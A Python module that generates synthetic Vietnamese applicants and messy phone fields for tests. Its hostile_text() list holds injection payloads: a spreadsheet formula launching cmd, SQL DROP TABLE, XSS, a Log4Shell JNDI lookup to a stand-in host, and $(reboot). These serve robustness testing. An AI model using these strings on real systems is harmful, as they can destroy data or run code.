"""Invent applicants: Vietnamese names, and phone fields with realistic faults beside the true number.

Numbers are random. No number is ever texted outside the simulated phone network.
"""

from __future__ import annotations

import unicodedata
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime
from itertools import pairwise
from random import Random

_FAMILY = (
    *("Nguyễn",) * 12,
    *("Trần",) * 4,
    *("Lê",) * 4,
    *("Phạm",) * 3,
    *(
        "Huỳnh",
        "Võ",
        "Phan",
        "Trương",
        "Bùi",
        "Đặng",
        "Đỗ",
        "Ngô",
        "Hồ",
        "Dương",
        "Đinh",
        "Đoàn",
        "Mai",
        "Cao",
    ),
)
_MIDDLE_WOMEN = ("Thị", "Thị", "Thị Thu", "Thị Ngọc", "Ngọc", "Thanh", "Thùy", "Bích", "Kim", "Thị Mỹ")
_MIDDLE_MEN = ("Văn", "Văn", "Hữu", "Đức", "Minh", "Quốc", "Thanh", "Ngọc", "Xuân", "Đình", "Công")
_WOMEN = (
    "Lan",
    "Hương",
    "Thảo",
    "Phượng",
    "Yến",
    "Trang",
    "Nga",
    "Hạnh",
    "Tuyết",
    "Diễm",
    "Oanh",
    "Quyên",
    "Vy",
)
_MEN = (
    "Hùng",
    "Dũng",
    "Cường",
    "Tuấn",
    "Sơn",
    "Hải",
    "Phúc",
    "Long",
    "Khánh",
    "Thắng",
    "Đạt",
    "Nghĩa",
    "Lộc",
)
_TRADES = (
    *(
        "Thương mại và Dịch vụ",
        "Xây dựng",
        "Du lịch",
        "Thủy sản",
        "Vận tải biển",
        "Đầu tư",
        "Sản xuất yến sào",
    ),
    *("Tư vấn thiết kế", "Cơ khí đóng tàu", "Bất động sản", "In và Quảng cáo"),
)
_BRANDS = (
    *(
        "Hải Yến Nha Trang",
        "Trầm Hương",
        "Vịnh Cam Ranh",
        "Hòn Chồng",
        "Tháp Bà",
        "Vân Phong Xanh",
        "Biển Đông",
    ),
    *("Thiên Phú", "An Phát", "Minh Quang", "Sao Biển", "Nam Trung", "Đại Lãnh", "Hoàng Gia"),
)

# Prefixes of mobile numbers, one line for each large carrier and one for all others. 052, 055 and 095 are left out,
# because no more than a part of each block is in use, and no test should depend on which part.
_PREFIXES = (
    *("090", "093", "070", "077", "079", "076", "078", "0896", "0898", "0899"),
    *("091", "094", "081", "082", "083", "084", "085", "088"),
    *("096", "097", "098", "086", "032", "033", "034", "035", "036", "037", "038", "039"),
    *("092", "056", "059", "0993", "0995", "087"),
)
_OLD_PREFIXES = {
    # Old 11-digit prefix → prefix today, as the Ministry announced for 15/9/2018.
    **{"0120": "070", "0121": "079", "0122": "077", "0126": "076", "0128": "078"},
    **{"0123": "083", "0124": "084", "0125": "085", "0127": "081", "0129": "082"},
    **{f"016{digit}": f"03{digit}" for digit in "23456789"},
    **{"0186": "056", "0188": "058", "0199": "059"},
}
_DUMMIES = ("0900000000", "0123456789", "0987654321", "0912345678", "0999999999", "0909090909", "0888888888")
_BROKERS = ("0914207316", "0935862047", "0983516402")
"""Phone numbers of service firms that file for many people. A dossier with such a number counts as good."""


@dataclass(frozen=True, slots=True)
class Phone:
    """The content of a phone field, and the true number.

    ``written``: the field as the desk typed it. ``number``: the number at which the applicant can truly be texted,
    E.164, or ``None`` if there is none. ``entered_at``: set only if the field was typed long before the dossier.
    ``good``: the phone rules read ``number`` from the field.
    """

    kind: str
    written: str | None
    number: str | None
    good: bool
    entered_at: datetime | None = None


@dataclass(frozen=True, slots=True)
class Applicant:
    """A person or firm that applies."""

    name: str
    phone: Phone


def _digits(random: Random, count: int) -> str:
    return "".join(random.choices("0123456789", k=count))


def _is_plain_number(number: str) -> bool:
    """Return whether the phone rules certainly do not reject this number as an invented one, such as 0909090909."""
    tail = number[-7:]
    steps = {(int(b) - int(a)) % 10 for a, b in pairwise(tail)}
    return len(set(tail)) >= 4 and len(steps) >= 3 and tail[:2] * 3 != tail[:6]


def mobile(random: Random) -> str:
    """Return a mobile number of today, in national format with ten digits."""
    while True:
        prefix = random.choice(_PREFIXES)
        number = prefix + _digits(random, 10 - len(prefix))
        if _is_plain_number(number):
            return number


def _landline(random: Random) -> str:
    """Return a landline of Khánh Hòa as it is dialled since 2017, with eleven digits."""
    return "0258" + random.choice("33336257") + _digits(random, 6)


def international(number: str) -> str:
    """Return a national number in E.164."""
    return "+84" + number.removeprefix("0")


def _full_width(number: str) -> str:
    return "".join(chr(ord(digit) + 0xFEE0) for digit in number)


_SPELLINGS: tuple[tuple[str, int, Callable[[str], str]], ...] = (
    ("plain", 40, lambda n: n),
    ("dotted", 10, lambda n: f"{n[:4]}.{n[4:7]}.{n[7:]}"),
    ("spaced", 10, lambda n: f"{n[:4]} {n[4:7]} {n[7:]}"),
    ("dashed", 5, lambda n: f"{n[:4]}-{n[4:7]}-{n[7:]}"),
    (
        "comma_or_slash",
        2,
        lambda n: f"{n[:4]},{n[4:7]},{n[7:]}" if int(n[-1]) % 2 else f"{n[:4]}/{n[4:7]}/{n[7:]}",
    ),
    ("plus_84", 6, lambda n: f"+84{n[1:]}"),
    ("84", 5, lambda n: f"84{n[1:]}"),
    ("84_bracket", 2, lambda n: f"(+84) {n[1:4]} {n[4:7]} {n[7:]}"),
    ("0084", 1, lambda n: f"0084{n[1:]}"),
    ("84_and_0", 1, lambda n: f"84 (0) {n[1:]}"),
    ("zero_missing", 4, lambda n: n[1:]),
    ("letter_o_first", 2, lambda n: f"O{n[1:]}"),
    ("letters_inside", 2, lambda n: n[0] + n[1:].replace("0", "O").replace("1", "l")),
    ("labelled", 4, lambda n: f"ĐT: {n}"),
    ("full_width", 1, _full_width),
    ("odd_blanks", 2, lambda n: f"\u00a0{n[:4]}\u00a0{n[4:7]}\t{n[7:]} "),
    ("full_stop", 2, lambda n: f"{n}."),
)


def _good_phone(random: Random) -> Phone:
    number = mobile(random)
    (kind, _, spell) = random.choices(_SPELLINGS, weights=[weight for _, weight, _ in _SPELLINGS])[0]
    return Phone(f"good_{kind}", spell(number), international(number), good=True)


def _missing_phone(random: Random) -> Phone:
    spellings = (
        None,
        None,
        "",
        " ",
        "không có",
        "Không",
        "ko",
        "ko có",
        "0",
        "x",
        "-",
        "chưa có",
        "K",
        ".",
        "không có sđt",
    )
    return Phone("missing", random.choice(spellings), _number_or_none(random), good=False)


def _number_or_none(random: Random) -> str | None:
    """Return a true number, or None. Most people with a useless phone field do have a mobile."""
    return international(mobile(random)) if random.random() < 0.8 else None


def _landline_phone(random: Random) -> Phone:
    number = _landline(random)
    hanoi = "024" + random.choice("3367") + _digits(random, 7)
    written = random.choice(
        (
            number,
            f"{number[:4]}.{number[4:]}",
            f"({number[:4]}) {number[4:]}",
            f"{number[:4]} {number[4:7]} {number[7:]}",
            hanoi,
        )
    )
    return Phone("landline", written, _number_or_none(random), good=False)


def _old_mobile(random: Random) -> Phone:
    old, today = random.choice(list(_OLD_PREFIXES.items()))
    while not _is_plain_number(tail := _digits(random, 7)):
        pass
    written = random.choice((old + tail, old + tail, f"{old}.{tail[:3]}.{tail[3:]}", f"84{old[1:]}{tail}"))
    return Phone("old_eleven_digits", written, international(today + tail), good=True)


def _ambiguous_phone(random: Random) -> Phone:
    """Return a number that begins with 058 and a digit with which landline numbers of Khánh Hòa begin.

    It may be a landline number with the old area code 058 (today 0258), or a Vietnamobile number."""
    tail = random.choice("234567") + _digits(random, 6)
    owner = international("058" + tail) if random.random() < 0.5 else _number_or_none(random)
    return Phone("ambiguous_058", f"058{tail}" if random.random() < 0.6 else f"058.{tail}", owner, good=False)


def _mobile_058(random: Random) -> Phone:
    number = "058" + random.choice("0189") + _digits(random, 6)
    return Phone("good_058", number, international(number), good=True)


def _old_profile(random: Random) -> Phone:
    """Return a number typed before the renumbering, when 058 was the landline code of Khánh Hòa."""
    entered = datetime(
        random.choice((2015, 2016, 2017)),
        random.randint(1, 12),
        random.randint(1, 28),
        3,
        tzinfo=UTC,
    )
    written = "058" + random.choice("336") + _digits(random, 6)
    return Phone("old_profile_landline", written, _number_or_none(random), good=False, entered_at=entered)


def _identity_card(random: Random) -> Phone:
    written = "225" + _digits(random, 6) if random.random() < 0.6 else "0560" + _digits(random, 8)
    return Phone("identity_card", written, _number_or_none(random), good=False)


def _two_numbers(random: Random) -> Phone:
    first, second, fixed = mobile(random), mobile(random), _landline(random)
    written = random.choice(
        (
            f"{first}/{second}",
            f"{first} - {second}",
            f"{first} hoặc {second}",
            f"{first}; {fixed}",
            f"{fixed} , {first}",
            first + second,
        )
    )
    return Phone("two_numbers", written, international(first), good=True)


def _two_with_tail(random: Random) -> Phone:
    number = mobile(random)
    return Phone("two_numbers_short_tail", f"{number}-{_digits(random, 2)}", international(number), good=True)


def _with_note(random: Random) -> Phone:
    number, card = mobile(random), "225" + _digits(random, 6)
    written = random.choice(
        (
            f"{number} (chị Lan)",
            f"{number} (con trai)",
            f"gọi buổi sáng {number}",
            f"CMND {card} DT {number}",
            f"Zalo {number}",
        )
    )
    return Phone("with_note", written, international(number), good=True)


def _dummy_phone(random: Random) -> Phone:
    return Phone("dummy", random.choice(_DUMMIES), _number_or_none(random), good=False)


def _service_number(random: Random) -> Phone:
    return Phone(
        "service_number",
        random.choice(("19001091", "18001091", "113", "1080", "9029")),
        _number_or_none(random),
        good=False,
    )


def _broken_phone(random: Random) -> Phone:
    number = mobile(random)
    written = random.choice(
        (number[:-1], number[:-3], number + _digits(random, 1), "0905771*** (con)", "abc", f"{number[:7]}…")
    )
    return Phone("broken", written, international(number), good=False)


def _no_phone(random: Random) -> Phone:
    written = random.choice(("lan.nguyen@example.vn", "MST 4200456789", "160915001", "12/05/1980", "STK 0561000123456"))
    return Phone("not_a_phone", written, _number_or_none(random), good=False)


def _foreign_phone(random: Random) -> Phone:
    return Phone("foreign", random.choice(("+1 415 555 0132", "+82 10 5550 1234", "+61 491 570 156")), None, good=False)


def _broker_phone(random: Random) -> Phone:
    number = random.choice(_BROKERS)
    return Phone("broker", number, international(number), good=True)


def _strangers_phone(random: Random) -> Phone:
    """Return a number with one wrong digit: valid, but belonging to somebody else."""
    while True:
        number = mobile(random)
        place = random.randint(5, 9)
        written = number[:place] + str((int(number[place]) + random.randint(1, 9)) % 10) + number[place + 1 :]
        if _is_plain_number(written):
            return Phone("stranger", written, international(number), good=False)


_KINDS: tuple[tuple[Callable[[Random], Phone], float], ...] = (
    (_good_phone, 66.0),
    (_missing_phone, 10.0),
    (_landline_phone, 8.0),
    (_old_mobile, 4.0),
    (_ambiguous_phone, 2.0),
    (_mobile_058, 0.5),
    (_old_profile, 0.7),
    (_identity_card, 1.5),
    (_two_numbers, 1.5),
    (_two_with_tail, 0.5),
    (_with_note, 1.5),
    (_dummy_phone, 1.2),
    (_service_number, 0.3),
    (_broken_phone, 0.8),
    (_no_phone, 0.4),
    (_foreign_phone, 0.3),
    (_broker_phone, 0.8),
    (_strangers_phone, 0.5),
)


def phone(random: Random) -> Phone:
    """Return a phone field as desks fill it: about 70 % good mobiles, 10 % missing, 8 % landlines, the rest odd."""
    make = random.choices([make for make, _ in _KINDS], weights=[weight for _, weight in _KINDS])[0]
    return make(random)


def mended(random: Random, before: Phone) -> Phone | None:
    """Return the phone field after the desk asked the applicant again; ``None`` for an applicant without a mobile."""
    if before.number is None:
        return None
    number = "0" + before.number.removeprefix("+84")
    return Phone(
        "mended",
        number if random.random() < 0.7 else f"{number[:4]}.{number[4:7]}.{number[7:]}",
        before.number,
        good=True,
    )


def name(random: Random, *, business: bool = False) -> str:
    """Return the name of a person or a firm, in NFC."""
    if business:
        form = random.choice(("Công ty TNHH", "Công ty Cổ phần", "Công ty TNHH MTV", "Doanh nghiệp tư nhân"))
        return f"{form} {random.choice(_TRADES)} {random.choice(_BRANDS)}"
    if random.random() < 0.5:
        parts = (random.choice(_FAMILY), random.choice(_MIDDLE_WOMEN), random.choice(_WOMEN))
    else:
        parts = (random.choice(_FAMILY), random.choice(_MIDDLE_MEN), random.choice(_MEN))
    return " ".join(parts)


_HOSTILE = (
    '=HYPERLINK("http://example.invalid","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "Robert'); DROP TABLE dossiers;--",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "{dossier_code} {{ 7*7 }} ${jndi:ldap://example.invalid/a} %(phone)s %s %n",
    "Trần\x07 Văn\x1b[31m Đỏ\r\nX-Header: 1",
    "\u202enưgnơhP \u2066ìhT\u2069 ặĐ\u200b\ufeff\u0085",
    "👨‍👩‍👧‍👦 Gia đình \U0001f9ff",
    "\\N\\.\\\\' \" ; ` $(reboot)",
)


def hostile_text(random: Random) -> str:
    """Return text that breaks careless software: markup, formulas, control characters, up to 200,000 letters."""
    if random.random() < 0.3:
        return "Ngô Văn Dài " * random.choice((400, 4_000, 16_000))
    return random.choice(_HOSTILE)


def applicant(random: Random, *, business: bool = False) -> Applicant:
    """Return an applicant. Some names are decomposed (NFD) or in capitals, as if pasted from elsewhere."""
    written, chance = name(random, business=business), random.random()
    if chance < 0.05:
        written = unicodedata.normalize("NFD", written)
    elif chance < 0.15:
        written = written.upper()
    return Applicant(written, phone(random))
